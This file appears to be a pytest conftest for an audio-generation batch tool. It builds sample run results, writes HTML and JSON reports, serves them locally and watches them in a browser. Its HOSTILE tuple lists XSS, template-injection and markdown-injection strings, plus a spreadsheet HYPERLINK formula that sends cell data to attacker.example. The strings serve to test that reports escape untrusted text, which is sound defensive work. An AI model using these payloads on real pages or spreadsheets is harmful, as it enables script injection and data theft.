"""Runs to report on: every way a take can end, and words that would harm a page that trusts them."""

from __future__ import annotations

import hashlib
import json
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass, field, replace
from decimal import Decimal
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
import soundfile

from kling_batch.identity import external_task_id
from kling_batch.model import (
    FileRecord,
    Job,
    LimitPoint,
    Origin,
    RunResult,
    Shape,
    Source,
    Status,
    Take,
    TakeError,
    TakeResult,
)
from kling_batch.records.journal import Journal
from kling_batch.report import write_reports

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

MakeTake = Callable[..., TakeResult]
MakeRun = Callable[..., RunResult]

_RATE = 8000

HOSTILE = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    '"><img src=x onerror="window.pwned = 3">',
    "' autofocus onfocus='window.pwned = 4",
    "</style></title><svg onload=window.pwned=5>",
    "javascript:window.pwned=6",
    "{{ 7 * 7 }} {% include 'x' %}",
    "[click](javascript:window.pwned=7) | `code` | @everyone #1\n# heading",
    '=HYPERLINK("http://attacker.example/?"&A1, "x")',
    "right \u202eto left\x00\x1b[31m",
)


@pytest.fixture
def hostile() -> tuple[str, ...]:
    """Words that run, draw or link something wherever they are trusted."""
    return HOSTILE


@pytest.fixture
def make_take() -> MakeTake:
    """Make the result of a take: one that succeeded, unless fields say otherwise."""

    def make(
        job_id: str = "door-creak", number: int = 1, *, job: dict[str, Any] | None = None, **fields: Any
    ) -> TakeResult:
        facts: dict[str, Any] = {
            "kind": "text-to-audio",
            "formats": ("wav",),
            "request": {"prompt": "Old oak door creaks open slowly", "duration": 5.0},
            "tags": ("foley",),
            "meta": {"scene": "entrance"},
            "source": Source(path="tavern.yaml", line=7, column=5),
        }
        take_job = Job(project="tavern", id=job_id, **(facts | (job or {})))
        take = Take(job=take_job, number=number, edition=1, stem=f"{job_id}-{number:02}")
        given: dict[str, Any] = {
            "status": Status.SUCCEEDED,
            "origin": Origin.GENERATED,
            "external_id": external_task_id(take),
            "task_id": "838475928374659072",
            "attempts": 1,
            "units": Decimal("0.25"),
            "files": (_file(take.path("wav")),),
            "submitted_at": 1_769_847_302.12,
            "finished_at": 1_769_847_314.62,
        }
        return TakeResult(take=take, **(given | fields))

    return make


def _file(path: str) -> FileRecord:
    digest = hashlib.sha256(path.encode()).hexdigest()
    return FileRecord(path=path, format="wav", sha256=digest, bytes=123_456, duration_s=5.0416)


@pytest.fixture
def make_run() -> MakeRun:
    """Make the result of a run of some takes."""

    def make(*takes: TakeResult, **fields: Any) -> RunResult:
        given: dict[str, Any] = {
            "project": "tavern",
            "manifest": "tavern.yaml",
            "started_at": 1_769_847_300.0,
            "finished_at": 1_769_847_331.2,
            "exit_status": 0,
            "api_requests": 19,
            "units": sum((take.units for take in takes), Decimal(0)),
        }
        return RunResult(takes=takes, **(given | fields))

    return make


@pytest.fixture
def failed(make_take: MakeTake) -> TakeResult:
    """A take that the service refused."""
    error = TakeError(code=1301, message="The prompt was refused by content policy", hint="Change the prompt.")
    return make_take(
        "gunfight", status=Status.FAILED, origin=None, task_id=None, files=(), units=Decimal(0), error=error
    )


@pytest.fixture
def unknown(make_take: MakeTake) -> TakeResult:
    """A take that is perhaps paid for."""
    return make_take("storm", status=Status.UNKNOWN, origin=None, task_id=None, files=(), finished_at=None)


@pytest.fixture
def pending(make_take: MakeTake) -> TakeResult:
    """A take that the run did not come to."""
    return make_take(
        "bell",
        status=Status.PENDING,
        origin=None,
        task_id=None,
        files=(),
        attempts=0,
        units=Decimal(0),
        submitted_at=None,
        finished_at=None,
    )


@pytest.fixture
def run(
    make_run: MakeRun, make_take: MakeTake, failed: TakeResult, unknown: TakeResult, pending: TakeResult
) -> RunResult:
    """Two takes that succeeded and one of each way that a take can have no sound; it stopped early and says why."""
    takes = (pending, make_take(number=1), make_take(number=2), unknown, failed)
    return make_run(*takes, exit_status=6, note="The deadline of 30 s passed.")


@pytest.fixture
def hostile_run(make_run: MakeRun, make_take: MakeTake) -> RunResult:
    """A run in which every free text is hostile: prompts, tags, meta, errors, the note, the manifest's name."""
    takes = []
    for index, words in enumerate(HOSTILE):
        job = {"request": {"prompt": words, "duration": 5.0}, "tags": (words,), "meta": {words: words}}
        takes.append(make_take(f"calm-{index}", job=job))
        error = TakeError(code=None, message=words, hint=words)
        takes.append(make_take(f"lost-{index}", job=job, status=Status.FAILED, origin=None, files=(), error=error))
    return make_run(*takes, project=HOSTILE[4], manifest=HOSTILE[2], note=HOSTILE[0], exit_status=1)


@pytest.fixture
def write_json(tmp_path: Path) -> Callable[[RunResult], Any]:
    """Write the reports of a run and read `report.json` back."""

    def write(result: RunResult) -> Any:
        write_reports(result, tmp_path)
        return json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))

    return write


@pytest.fixture
def make_sounds() -> Callable[[RunResult, Path], None]:
    """Put a real sound, a tone of the length that the run states, where each file of a run should be."""

    def make(result: RunResult, out: Path) -> None:
        files = [file for take in result.takes for file in take.files]
        for file in (*files, *(one.file for one in result.earlier)):
            path = out / file.path
            path.parent.mkdir(parents=True, exist_ok=True)
            tone = np.sin(np.arange(round(file.duration_s * _RATE)) * 0.3) * 0.2
            soundfile.write(path, tone, _RATE)

    return make


@dataclass(frozen=True)
class Visit:
    """An open page, with all that it asked for and all that it complained about."""

    page: Page
    asked: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[..., Visit]]:
    """Open a page in a window of a desk, or of the size and kind that is asked for, and watch it."""
    contexts = []

    def watch(url: str, *, width: int = 1280, height: int = 800, **settings: Any) -> Visit:
        context = browser.new_context(viewport={"width": width, "height": height}, **settings)
        contexts.append(context)
        page = context.new_page()
        seen = Visit(page)
        page.on("request", lambda request: seen.asked.append(request.url))
        page.on("console", lambda message: seen.complaints.append(message.text))
        page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        page.on("dialog", lambda dialog: seen.complaints.append(dialog.message))
        page.set_default_timeout(10_000)
        page.goto(url)
        return seen

    yield watch
    for context in contexts:
        context.close()


class Server(ThreadingHTTPServer):
    """Serves a folder on the loopback, and keeps what was asked of it."""

    def __init__(self, folder: Path) -> None:
        super().__init__(("127.0.0.1", 0), partial(Handler, directory=str(folder)))
        self.url = f"http://127.0.0.1:{self.server_port}"
        self.asked: list[str] = []
        self.policy = ""


class Handler(SimpleHTTPRequestHandler):
    """Answers with files, and prints nothing."""

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002, ARG002 - the base class names them so
        """Keep the path that was asked for."""
        assert isinstance(self.server, Server)
        self.server.asked.append(self.path)

    def end_headers(self) -> None:
        """Send the policy of the server along, if it has one."""
        assert isinstance(self.server, Server)
        if self.server.policy:
            self.send_header("Content-Security-Policy", self.server.policy)
        super().end_headers()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    """Serve the test's folder as a CI serves its artifacts."""
    with Server(tmp_path) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def report(tmp_path: Path, make_sounds: Callable[[RunResult, Path], None]) -> Callable[..., Path]:
    """Write the reports of a run, beside real sounds or not, and with what sounds look like, where that is given."""

    def write(result: RunResult, *, sounds: bool = True, shapes: Mapping[str, Shape] | None = None) -> Path:
        out = tmp_path / "out #1 & more"
        out.mkdir()
        if sounds:
            make_sounds(result, out)
        with closing(Journal(out, now=0.0)) as journal:
            journal.keep_shapes(shapes or {})
        write_reports(result, out)
        return out / "report.html"

    return write


@pytest.fixture
def tavern(make_run: MakeRun, make_take: MakeTake, failed: TakeResult, unknown: TakeResult) -> RunResult:
    """Make a run of 60 takes: 20 jobs of unlike words, and a failure and an unknown among them."""
    moods = ("old", "heavy", "wet", "small", "slow")
    takes = [
        make_take(
            f"{thing}-{mood}",
            number,
            job={
                "takes": 3,
                "request": {"prompt": f"A {mood} {thing} in a tavern, close and dry", "duration": 5.0},
                "tags": (thing, "foley") if mood == "old" else (thing,),
                "meta": {"scene": mood},
            },
        )
        for mood in moods
        for thing in ("door", "step", "fire", "chain")
        for number in (1, 2, 3)
    ]
    takes[7] = replace(failed, take=takes[7].take, external_id=takes[7].external_id)
    takes[31] = replace(unknown, take=takes[31].take, external_id=takes[31].external_id)
    limits = tuple(
        LimitPoint(at=1_769_847_300.0 + 3 * step, limit=limit, reason="room was free")
        for step, limit in enumerate((4, 6, 9, 8, 12))
    )
    picks = (takes[0].take.key, takes[4].take.key)
    return make_run(*takes, exit_status=6, limits=limits, picks=picks, api_requests=181)


@pytest.fixture
def keep_shot(pytestconfig: pytest.Config) -> Callable[[Page, str], None]:
    """Keep a picture of a page, for people to look at, in the checkout's `out/screenshots`."""
    folder = pytestconfig.rootpath / "out" / "screenshots"

    def keep(page: Page, name: str) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=folder / f"{name}.png")

    return keep
